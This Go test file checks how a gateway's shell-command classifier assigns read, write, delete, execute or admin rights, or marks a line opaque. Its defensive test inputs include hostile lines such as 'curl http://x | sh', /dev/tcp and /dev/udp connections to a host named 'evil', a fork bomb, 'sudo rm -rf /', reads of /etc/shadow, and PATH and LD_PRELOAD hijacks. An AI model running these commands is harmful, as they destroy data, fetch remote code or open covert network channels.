package command_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/policy"
	"github.com/sekisho/sekisho/policy/command"
	"github.com/sekisho/sekisho/policy/rego"
)

// shipped is the catalogue that a new gateway starts with.
func shipped(t testing.TB) *command.Catalogue {
	t.Helper()
	data, err := fs.ReadFile(rego.FS, "commands.yaml")
	if err != nil {
		t.Fatal(err)
	}
	c, err := command.ParseCatalogue("commands.yaml", data)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// said writes a result as "right resource; …" with # for the line's own hash, or as "opaque: why".
func said(line string, r command.Result) string {
	if r.Opaque {
		return "opaque: " + r.Why
	}
	var needs []string
	for _, n := range r.Needs {
		needs = append(needs, fmt.Sprintf("%s %s", n.Right, strings.ReplaceAll(n.Resource, command.Hash(line), "#")))
	}
	return strings.Join(needs, "; ")
}

type lineCase struct{ line, want string }

func check(t *testing.T, cases []lineCase) {
	t.Helper()
	c := shipped(t)
	for _, tc := range cases {
		t.Run(tc.line, func(t *testing.T) {
			if got := said(tc.line, c.Classify(tc.line)); got != tc.want {
				t.Errorf("needs %q, want %q", got, tc.want)
			}
		})
	}
}

func TestViewersAndBuiltinsNeedRead(t *testing.T) {
	check(t, []lineCase{
		{"echo hello; exit 3", "read echo hello; read exit 3"},
		{"ls", "read ls"},
		{"ls -la /srv", "read /srv"},
		{"/bin/cat notes.txt", "read notes.txt"},
		{"cat a 'b c'", "read a; read b c"},
		{"cat < a > /dev/null 2>&1", "read a; read cat"},
		{"head -n 5 x", "read x"},
		{"tail -20 x", "read x"},
		{"grep -rn pattern /srv", "read /srv"},
		{"grep -ie pattern /srv", "read /srv"},
		{"grep -f patterns x", "read patterns; read x"},
		{"find /srv -name '*.log' -mtime +3", "read /srv"},
		{"find /srv -name *.log", "read /srv"},
		{"find", "read ."},
		{"id", "read id"},
		{"uname -a", "read uname -a"},
		{"pwd && whoami || hostname", "read pwd; read whoami; read hostname"},
		{"date +%F", "read date +%F"},
		{"true", "read true"},
		{"printf '%s\\n' \"$x\"", `read printf '%s\n' "$x"`},
		{"ps aux | sort -k2 | head", "read ps aux; read sort -k2; read head"},
		{"df -h", "read df -h"},
		{"cd /etc; cat shadow", "read /etc; read #"},
		{"sed -n '1,20p;$p' x", "read x"},
		{"sed -e 's/a/b/g' -e '/x/d' x", "read x"},
		{"[ -f \"$x\" ] && [[ $y == z ]]", `read [ -f "$x" ]; read [[ $y == z ]]`},
		{"while IFS= read -r l; do echo \"$l\"; done < f", `read f; read read -r l; read echo "$l"`},
		{"set -euo pipefail; ls", "read set -euo pipefail; read ls"},
		{"x=1", "read x=1"},
		{"# nothing", "read # nothing"},
		{"", "read :"},
		{"command -v rm", "read command -v rm"},
		{"trap - INT", "read trap - INT"},
	})
}

func TestWhatCommandsDoToFiles(t *testing.T) {
	check(t, []lineCase{
		{"rm x", "delete x"},
		{"rm -rf -- -x /y", "delete -x; delete /y"},
		{"rmdir a", "delete a"},
		{"cp a b c", "read a; read b; write c"},
		{"cp -t d a b", "write d; read a; read b"},
		{"cp --target-dir=d a", "write d; read a"},
		{"mv a b", "delete a; write b"},
		{"tee -a x", "write x"},
		{"echo x > a", "write a; read echo x"},
		{"echo x >> a 2>| b", "write a; write b; read echo x"},
		{"ls &> a", "write a; read ls"},
		{"ls >& a", "write a; read ls"},
		{"exec 3<> a", "read a; write a; read exec"},
		{"> a", "write a"},
		{"touch a; mkdir -p -m 700 b/c", "write a; write b/c"},
		{"chmod 644 a", "write a"},
		{"sort -o out in", "write out; read in"},
		{"sort --outp=out in", "write out; read in"},
		{"sort -uo out in", "write out; read in"},
		{"uniq in out", "read in; write out"},
		{"sed -i.bak s/a/b/ x", "read x; write x"},
		{"find /tmp -name x -delete", "read /tmp; delete /tmp"},
		{"find . -fprint out", "read .; write out"},
		{"find /a /b -exec cat {} +", "read /a; read /b; read #"},
		{"if [ -f x ]; then rm x; else touch x; fi", "read [ -f x ]; delete x; write x"},
		{"case $1 in a) rm a;; *) touch b;; esac", "delete a; write b"},
		{"(rm a) & { rm b; }", "delete a; delete b"},
		{"time rm a", "delete a"},
		{"! rm a", "delete a"},
		{"cat <<EOF > a\nhello $USER\nEOF", "write a; read cat"},
		{"diff <(cat a) <(rm b)", "read a; delete b; read diff <(cat a) <(rm b)"},
		{"tee >(rm b)", "delete b; read tee >(rm b)"},
	})
}

func TestUnlistedProgramsNeedExecute(t *testing.T) {
	check(t, []lineCase{
		{"systemctl restart app", "execute systemctl restart app"},
		{"./tool a 'b c'", "execute ./tool a 'b c'"},
		{"./rm x", "execute ./rm x"},
		{"/opt/bin/cat x", "execute /opt/bin/cat x"},
		{"tar xf a.tar", "execute tar xf a.tar"},
		{"systemctl restart $x", "execute systemctl restart $x; execute #"},
		{"sudo -n systemctl restart app", "execute sudo -n systemctl restart app; execute systemctl restart app"},
		{"RAILS_ENV=production rake db:migrate", "execute rake db:migrate; execute #"},
	})
}

func TestDisguisedCommandsAreSeenThrough(t *testing.T) {
	check(t, []lineCase{
		{"r''m x", "delete x"},
		{`r\m x`, "delete x"},
		{`"rm" x`, "delete x"},
		{`$'\x72m' x`, "delete x"},
		{`$"rm" x`, "opaque: syntax that another shell reads differently"},
		{"r\\\nm x", "delete x"},
		{"/bin/rm x", "delete x"},
		{"echo $(rm x)", "delete x; read echo $(rm x)"},
		{"echo `rm x`", "delete x; read echo `rm x`"},
		{"echo \"${a:-$(rm x)}\"", `delete x; read echo "${a:-$(rm x)}"`},
		{"a=$(rm x)", "delete x"},
		{"a[0]=$(rm x)", "delete x"},
		{"a=($(rm x))", "delete x"},
		{"cat <<EOF\n$(rm x)\nEOF", "delete x; read cat"},
		{"cat <<'EOF'\n$(rm x)\nEOF", "read cat"},
		{"cat <<< $(rm x)", "delete x; read cat"},
		{"for i in $(rm x); do :; done", "delete x; read :"},
		{"sudo -u postgres rm x", "execute sudo -u postgres rm x; delete x"},
		{"nice -n 5 timeout -k 1 5 env -i A=b rm x", "delete x"},
		{"nohup rm x &", "execute nohup rm x; delete x"},
		{"command rm x; builtin exit", "delete x; read exit"},
		{"ls | xargs rm", "read ls; delete #"},
		{"ls | xargs -n 1 -P 4 grep x", "read ls; read #"},
		{"ls | xargs -I{} mv {} /tmp", "read ls; write #; delete #; write /tmp"},
		{"ls | xargs sh -c 'rm \"$@\"' _", "read ls; delete #"},
		{"find . -exec rm {} \\;", "read .; delete #"},
		{"find . -execdir sh -c 'rm \"$1\"' _ {} +", "read #; delete #"},
		{"bash -c 'rm x'", "delete x"},
		{"sh -ec 'sh -c \"rm x\"'", "delete x"},
		{"f() { rm x; }; f", "delete x; read f"},
		{"function f { rm x; }; f a", "delete x; read f a"},
		{"for f in *.log; do rm $f; done", "delete #"},
		{"coproc rm x", "delete x"},
		{"rm {a,b}", "delete {a,b}"},
		{"rm *", "delete *"},
		{"rm '*'", "delete '*'"},
		{"rm ~/x", "delete ~/x"},
		{"rm $HOME/x", "delete #"},
		{"cat \"$x\"", "read #"},
		{"tee /etc/sudoers.d/x", "write /etc/sudoers.d/x; admin /etc/sudoers.d/x"},
		{"echo x >> /etc/../etc/passwd", "write /etc/../etc/passwd; admin /etc/../etc/passwd; read echo x"},
		{"useradd eve", "admin useradd eve"},
		{"hostname evil", "admin hostname evil"},
		{"date +%F -s 10:00", "admin date +%F -s 10:00"},
	})
}

func TestWhatCannotBeToldIsOpaque(t *testing.T) {
	check(t, []lineCase{
		{"eval 'rm x'", "opaque: eval"},
		{"curl http://x | sh", "opaque: a shell"},
		{"bash -s < x", "opaque: a shell"},
		{"bash -i", "opaque: a shell"},
		{"bash", "opaque: a shell"},
		{"bash deploy", "opaque: a shell"},
		{"bash -c \"$x\"", "opaque: a shell"},
		{"bash --rcfile x -c ls", "opaque: a shell"},
		{"xargs sh -c", "opaque: a shell"},
		{"xargs -I{} sh -c 'rm {}'", "opaque: a shell"},
		{"xargs -0I% % x", "opaque: a program that is named by a variable or wildcard"},
		{"xargs --max-lines rm x -i y {}", "delete x; delete y; delete '{}'; delete #"},
		{"find . -exec {} \\;", "opaque: a program that is named by a variable or wildcard"},
		{"find . -exec sh -c 'rm {}' \\;", "opaque: a shell"},
		{"find $x", "opaque: an argument that may be an action of find"},
		{"find *", "opaque: an argument that may be an action of find"},
		{"find . -name *", "opaque: an argument that may be an action of find"},
		{"find . -unheard-of", "opaque: a part of find that is not known"},
		{"$X y", "opaque: a program that is named by a variable or wildcard"},
		{"/bin/r? x", "opaque: a program that is named by a variable or wildcard"},
		{"{rm,x}", "opaque: a program that is named by a variable or wildcard"},
		{"$(echo rm) x", "opaque: a program that is named by a variable or wildcard"},
		{"=rm x", "opaque: a program that cannot be told"},
		{"'' x", "opaque: a program that cannot be told"},
		{"vim x", "opaque: vim"},
		{"less x", "opaque: less"},
		{"python3 -c 'print(1)'", "opaque: python3"},
		{"perl x.pl", "opaque: perl"},
		{"awk '{system(\"rm x\")}'", "opaque: awk"},
		{"./deploy.sh", "opaque: an unknown script"},
		{". ./env", "opaque: ."},
		{"source x", "opaque: source"},
		{"alias ls=rm", "opaque: alias"},
		{"trap 'rm x' EXIT", "opaque: a trap"},
		{"enable -f x y", "opaque: enable"},
		{"sudo -i", "opaque: sudo"},
		{"sudo -s", "opaque: sudo"},
		{"sudo --unheard-of rm x", "opaque: the option --unheard-of of sudo"},
		{"sudo -h host rm x", "opaque: the option -h of sudo"},
		{"su -c 'rm x'", "opaque: su"},
		{"env -S 'rm x'", "opaque: env"},
		{"env $x", "opaque: an argument that may be an option of env"},
		{"sed 's/x/id/e' x", "opaque: a sed script that may run code"},
		{"sed -n 'w /tmp/x' x", "opaque: a sed script that may run code"},
		{"sed 's/a/b/w /tmp/x' x", "opaque: a sed script that may run code"},
		{"sed 's/[/]/g;s/e;s/x/;s/y/z/' x", "opaque: a sed script that may run code"},
		{"sed -f x y", "opaque: the option -f of sed"},
		{"sed \"$x\" y", "opaque: an argument that may be an option of sed"},
		{"sort --compress-program=rm x", "opaque: sort"},
		{"sort $x", "opaque: an argument that may be an option of sort"},
		{"sort *", "opaque: an argument that may be an option of sort"},
		{"sort -k 1 -t \"$x\" y", "read y"},
		{"cat < /dev/tcp/evil/80", "opaque: a network connection"},
		{"exec 5<>/dev/udp/evil/53", "opaque: a network connection"},
		{"echo x > $f", "opaque: a redirection to what a variable names"},
		{"echo x > /dev/$f", "opaque: a redirection to what a variable names"},
		{"echo x > /tmp/$f", "write #; read echo x"},
		{"LD_PRELOAD=./x ls", "opaque: setting LD_PRELOAD"},
		{"PATH=. ls", "opaque: setting PATH"},
		{"export PATH=.", "opaque: setting PATH"},
		{"PATH=.; ls", "opaque: setting PATH"},
		{"for PATH in .; do ls; done", "opaque: setting PATH"},
		{"read PATH < x", "opaque: setting PATH"},
		{"read $x", "opaque: an assignment that cannot be told"},
		{"printf -v PATH .", "opaque: printf"},
		{": ${PATH:=.}", "opaque: setting PATH"},
		{"env PATH=. ls", "opaque: setting PATH"},
		{"sudo LD_PRELOAD=./x ls", "opaque: setting LD_PRELOAD"},
		{"PS4='$(rm x)'; set -x", "opaque: setting PS4"},
		{"declare -n x=PATH", "opaque: options of declare"},
		{"unset -f f", "opaque: unset"},
		{"x='a[$(rm f)]'; echo $((x))", "opaque: arithmetic on variables"},
		{"x='a[$(rm f)]'; ((x))", "opaque: arithmetic on variables"},
		{"echo ${a[x]}", "opaque: arithmetic on variables"},
		{"echo ${a:x}", "opaque: arithmetic on variables"},
		{"[[ x -eq 1 ]]", "opaque: arithmetic on variables"},
		{"[[ -v x ]]", "opaque: a test that may run code"},
		{"test -v 'a[$(rm f)]'", "opaque: a test that may run code"},
		{"[ $x ]", "opaque: a test that may run code"},
		{"let x=1", "opaque: syntax that cannot be told"},
		{"echo ${!x}", "opaque: an indirect variable"},
		{"echo ${x@P}", "opaque: a variable that is evaluated"},
		{"ls *(e:'rm x':)", "opaque: an extended wildcard"},
		{"ls =(rm x)", "opaque: syntax that cannot be read"},
		{"echo (rm x)", "opaque: syntax that cannot be read"},
		{"echo 'unfinished", "opaque: syntax that cannot be read"},
		{"cat <<EOF", "opaque: syntax that cannot be read"},
		{"ls\x00rm x", "opaque: a NUL byte"},
		{":(){ :|:& };:", "opaque: a function that may not be defined yet"},
		{"if x; then ls() { :; }; fi; ls", "opaque: a function that may not be defined yet"},
		{"jobs -x rm x", "opaque: jobs"},
		{"wait -p 'a[$(rm x)]'", "opaque: an assignment that cannot be told"},
		{"mapfile -C rm a", "opaque: mapfile"},
		{"crontab -l", "opaque: crontab"},
		{strings.Repeat("(", 600), "opaque: deep nesting"},
		{strings.Repeat("sudo ", 100) + "ls", "opaque: deep nesting"},
		{"echo " + strings.Repeat("x", 20000), "opaque: a line of more than 16 KiB"},
		{"rm " + strings.Join(numbered(300), " "), "opaque: too many files and commands"},
	})
}

func numbered(n int) (list []string) {
	for i := range n {
		list = append(list, fmt.Sprint("f", i))
	}
	return list
}

func TestAnOpaqueLineNeedsExecuteOnItsHash(t *testing.T) {
	const line = "eval ls"
	r := shipped(t).Classify(line)
	want := []policy.Need{{Right: policy.Execute, Resource: command.Hash(line)}}
	if !r.Opaque || !slices.Equal(r.Needs, want) {
		t.Fatalf("%+v", r)
	}
	if !strings.HasPrefix(want[0].Resource, "sha256:") || len(want[0].Resource) != len("sha256:")+64 {
		t.Fatalf("hash %q", want[0].Resource)
	}
}

func TestProgramsListsEveryCommandOfTheLine(t *testing.T) {
	r := shipped(t).Classify("sudo rm -rf / | xargs -n1 sh -c 'id'")
	got := fmt.Sprint(r.Programs)
	if want := "[[sudo rm -rf /] [rm -rf /] [xargs -n1 sh -c id] [sh -c id …] [id]]"; got != want {
		t.Errorf("programs %s, want %s", got, want)
	}
}

func TestSecretsAreInNoResource(t *testing.T) {
	c := shipped(t)
	for _, line := range []string{
		"mysql -phunter2 db", "sh -c 'mysql --password=hunter2'", "echo hunter2 | sudo -S ls", "PGPASSWORD=hunter2 psql",
		"curl -u me:hunter2 http://x", "export API_KEY=hunter2",
	} {
		if r := c.Classify(line); strings.Contains(fmt.Sprint(r), "hunter2") {
			t.Errorf("%s: %v", line, r)
		}
	}
}

func TestAnAdminsCatalogueNamesScriptsAndPrograms(t *testing.T) {
	c, err := command.ParseCatalogue("commands.yaml", []byte("execute: [./deploy.sh, report.py]\nread: [showlog]\n"))
	if err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]string{
		"./deploy.sh prod": "execute ./deploy.sh prod",
		"report.py":        "execute report.py",
		"other.py":         "opaque: an unknown script",
		"showlog /x":       "read /x",
		"rm x":             "execute rm x",
	} {
		if got := said(line, c.Classify(line)); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func TestMistakesInACatalogueAreNamedByPlace(t *testing.T) {
	for _, tc := range []struct{ name, yaml, want string }{
		{"an unknown key", "raed: [cat]\n", `commands.yaml:1:1: unknown field "raed"`},
		{"an unknown key of a program", "programs:\n  cat: {operand: read}\n", `commands.yaml:2:9: unknown field "operand"`},
		{"a program that is there twice", "read: [cat]\nwrite: [tee, cat]\n", "commands.yaml:2:14: program cat is there twice"},
		{"an unknown effect", "programs:\n  cat: {operands: raed}\n", `commands.yaml:2:19: "raed": want one of`},
		{"an unknown kind", "programs:\n  cat: {kind: viewer}\n", `commands.yaml:2:15: "viewer": want one of`},
		{"an option without a dash", "programs:\n  cat: {values: {n: none}}\n", `commands.yaml:2:21: option "n"`},
		{"a name with a space", "read: ['cat x']\n", `commands.yaml:1:8: program "cat x"`},
		{"a relative admin path", "admin_paths: [etc]\n", `commands.yaml:1:15: path "etc"`},
		{"an empty file", "", "commands.yaml:1:1: the file is empty"},
		{"two documents", "read: [cat]\n---\nread: [ls]\n", "commands.yaml:1:1: the file holds more than one document"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := command.ParseCatalogue("commands.yaml", []byte(tc.yaml))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %v, want %q", err, tc.want)
			}
		})
	}
}
